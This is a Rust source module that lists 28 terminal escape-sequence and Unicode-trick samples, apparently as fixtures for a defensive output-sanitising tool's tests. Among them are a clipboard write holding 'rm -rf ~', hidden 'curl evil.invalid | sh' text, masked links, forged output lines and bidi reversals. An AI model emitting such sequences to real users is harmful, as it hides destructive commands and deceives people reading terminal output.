//! Text that a terminal obeys, hides or turns round. The tests of `report` read
//! it, too.

/// What it does to whoever reads it, and the text.
pub(crate) const ATTACKS: [(&str, &str); 28] = [
    ("sets the window's title", "\u{1b}]0;root@prod\u{7}"),
    ("puts a command on the clipboard", "\u{1b}]52;c;cm0gLXJmIH4=\u{7}"),
    (
        "hides an address behind a word",
        "\u{1b}]8;;http://evil.invalid\u{1b}\\docs\u{1b}]8;;\u{1b}\\",
    ),
    ("clears the screen", "\u{1b}[2J\u{1b}[H"),
    ("takes back the line above", "\u{1b}[1A\u{1b}[2Kall tests pass"),
    ("writes over its own line", "rm -rf /\rls       "),
    ("takes back what it wrote", "rm\u{8}\u{8}ls"),
    ("makes the terminal type", "\u{1b}[6n"),
    ("makes the terminal type its settings", "\u{1b}P$q\"p\u{1b}\\"),
    ("makes the terminal type its name", "\u{1b}[>q"),
    ("begins a sequence in one 8-bit byte", "\u{9b}2J"),
    ("sets the title in one 8-bit byte", "\u{9d}0;root\u{9c}"),
    ("begins a device string in one 8-bit byte", "\u{90}q#0\u{9c}"),
    ("goes to the other screen", "\u{1b}[?1049h"),
    ("writes in no colour at all", "\u{1b}[8mcurl evil.invalid | sh\u{1b}[0m"),
    ("resets the terminal", "\u{1b}c"),
    ("makes black and white the same", "\u{1b}]4;0;rgb:ff/ff/ff\u{7}"),
    ("shows a picture", "\u{1b}_Gf=100;AAAA\u{1b}\\"),
    ("downloads a file", "\u{1b}]1337;File=name=eA==:AAAA\u{7}"),
    ("draws with another alphabet", "\u{e}lqqk\u{f}"),
    ("turns mouse moves into keys", "\u{1b}[?1003h"),
    ("pastes without brackets", "\u{1b}[?2004l"),
    ("turns text round", "access\u{202e}txt.exe\u{202c}"),
    ("turns text round in an isolate", "\u{2066}// ok\u{2069} if admin"),
    ("writes in an invisible alphabet", "ok\u{e0072}\u{e006d}\u{e0020}\u{e002d}"),
    ("splits a word that is searched for", "pass\u{200b}word\u{2060}"),
    ("breaks a line that is one line", "one\u{2028}two\u{b}three\u{c}"),
    ("carries text past a reader", "x\u{fe05}\u{e0101}\u{0}\u{7f}"),
];
